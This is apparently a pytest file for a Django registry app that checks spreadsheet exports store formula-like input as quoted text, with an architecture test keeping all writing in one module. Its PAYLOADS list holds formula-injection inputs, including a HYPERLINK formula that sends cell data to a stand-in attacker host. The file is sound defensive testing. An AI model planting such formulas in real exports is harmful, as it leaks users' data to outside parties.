"""Excel formula injection: text typed by an applicant or a clerk must never come back to the
bureau as a live formula in an exported workbook.

The attack: an organization (or a domicile, a contact) named ``=HYPERLINK("http://…","点击")``,
``+1+1``, ``@SUM(A1)`` or ``\\t=1``; a clerk exports the list and opens it in Excel. Every export
goes through the one writer (``socorg.core.exports``), which stores such values as quote-prefixed
text; the architecture test below keeps new exports on that writer."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from socorg.core.audit import audit_record
from socorg.core.exports import ExportWorkbook, SheetColumn
from socorg.core.models import Role
from socorg.party import rules, workbooks
from socorg.party.workbooks import ListSheet
from tests import factories as f

SRC = Path(__file__).resolve().parents[2] / "src" / "socorg"
WRITER = SRC / "core" / "exports.py"

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "#REF!",
]


def _cells(content: bytes, sheet_index: int = 0) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for row in book.worksheets[sheet_index].iter_rows() for cell in row]


def _assert_stored_as_text(cells: list, payloads: list[str]) -> None:
    # An XML reader turns a carriage return into a line feed; the leading character stays.
    payloads = [p.replace("\r", "\n") for p in payloads]
    found = {cell.value: cell for cell in cells if cell.value in payloads}
    assert set(found) == set(payloads), f"missing: {set(payloads) - set(found)}"
    for value, cell in found.items():
        assert cell.data_type == "s", f"{value!r} was written as {cell.data_type!r}"
        assert cell.quotePrefix, f"{value!r} would run as a formula when the clerk edits it"


def test_the_writer_stores_formula_like_text_as_quoted_text_with_the_same_characters() -> None:
    book = ExportWorkbook()
    sheet = book.sheet("名录", [SheetColumn("名称")])
    for payload in PAYLOADS:
        sheet.append([payload])
    _assert_stored_as_text(_cells(book.to_bytes()), PAYLOADS)


def test_the_writer_keeps_ordinary_values_and_drops_characters_xml_cannot_carry() -> None:
    book = ExportWorkbook()
    sheet = book.sheet("名录", [SheetColumn("名称"), SheetColumn("金额")])
    sheet.append(["日照市书法家协会\x01", 30000])
    sheet.append(["0633-1234567", -5])
    cells = _cells(book.to_bytes())
    values = {c.coordinate: (c.value, c.data_type, bool(c.quotePrefix)) for c in cells}
    assert values["A2"] == ("日照市书法家协会", "s", False)
    assert values["B2"] == (30000, "n", False)
    assert values["A3"] == ("0633-1234567", "s", False)
    assert values["B3"] == (-5, "n", False)


@pytest.mark.django_db
def test_the_organization_export_writes_hostile_names_as_text(client, city, city_registrar) -> None:
    for payload in PAYLOADS:
        f.organization(where=city.city, name=payload, domicile=payload)
    f.login(client, city_registrar)
    response = client.get(reverse("registry:organization_export"))
    assert response.status_code == 200
    _assert_stored_as_text(_cells(b"".join(response.streaming_content)), PAYLOADS)


@pytest.mark.django_db
def test_the_coverage_export_writes_hostile_names_as_text(client, city, city_registrar) -> None:
    for payload in PAYLOADS:
        f.organization(where=city.city, name=payload)
    f.login(client, city_registrar)
    response = client.get(reverse("party:coverage_export") + "?level=city")
    assert response.status_code == 200
    _assert_stored_as_text(_cells(b"".join(response.streaming_content)), PAYLOADS)


@pytest.mark.django_db
def test_the_audit_export_writes_hostile_object_names_as_text(client, city) -> None:
    auditor = f.user("auditor_sun", Role.AUDITOR, jurisdiction=city.city)
    with transaction.atomic():
        for payload in PAYLOADS:
            audit_record(
                actor=auditor,
                action="test.write",
                obj=f.organization(where=city.city, name=payload),
            )
    f.login(client, auditor)
    response = client.get("/audit/export/")
    assert response.status_code == 200
    _assert_stored_as_text(_cells(b"".join(response.streaming_content)), PAYLOADS)


def test_the_import_template_writes_hostile_reference_values_as_text() -> None:
    listing = ListSheet(title="部门列表", headers=("部门代码", "部门名称"), rows=[("X", "=1+2")])
    content = workbooks.template(rules.WORKBOOK, lists=[listing], help_lines=["说明", "@SUM(A1)"])
    _assert_stored_as_text(_cells(content, 1), ["=1+2"])
    _assert_stored_as_text(_cells(content, 2), ["@SUM(A1)"])


# --- architecture: one writer ------------------------------------------------------------------

# What builds or fills a workbook or a CSV file; only the writer may use these.
_WRITING_NAMES = {
    "openpyxl": {"Workbook", "WriteOnlyCell", "Cell"},
    "openpyxl.workbook": {"Workbook"},
    "openpyxl.workbook.workbook": {"Workbook"},
    "openpyxl.cell": {"WriteOnlyCell", "Cell"},
    "openpyxl.cell.cell": {"WriteOnlyCell", "Cell"},
    "csv": {"writer", "DictWriter"},
}
_WRITING_MODULES = {"openpyxl.writer", "xlsxwriter", "xlwt", "openpyxl.worksheet._write_only"}


def _writing_imports(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and node.module:
            bad = {a.name for a in node.names} & _WRITING_NAMES.get(node.module, set())
            if bad or any(node.module.startswith(m) for m in _WRITING_MODULES):
                found.append(f"from {node.module} import {', '.join(a.name for a in node.names)}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "csv" or alias.name.startswith(tuple(_WRITING_MODULES)):
                    found.append(f"import {alias.name}")
        elif isinstance(node, ast.Attribute) and node.attr in ("Workbook", "writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id in ("openpyxl", "csv"):
                found.append(f"{node.value.id}.{node.attr}")
    return found


def test_no_module_but_the_core_writer_builds_a_spreadsheet() -> None:
    offenders = {
        str(path.relative_to(SRC)): found
        for path in sorted(SRC.rglob("*.py"))
        if path != WRITER and (found := _writing_imports(path))
    }
    assert offenders == {}, (
        "write spreadsheets through socorg.core.exports.ExportWorkbook, which stores "
        f"formula-like text as text: {offenders}"
    )


def test_the_architecture_check_sees_a_direct_workbook_import(tmp_path) -> None:
    module = tmp_path / "rogue.py"
    module.write_text("import openpyxl\nfrom openpyxl import Workbook\nopenpyxl.Workbook()\n")
    assert len(_writing_imports(module)) == 2
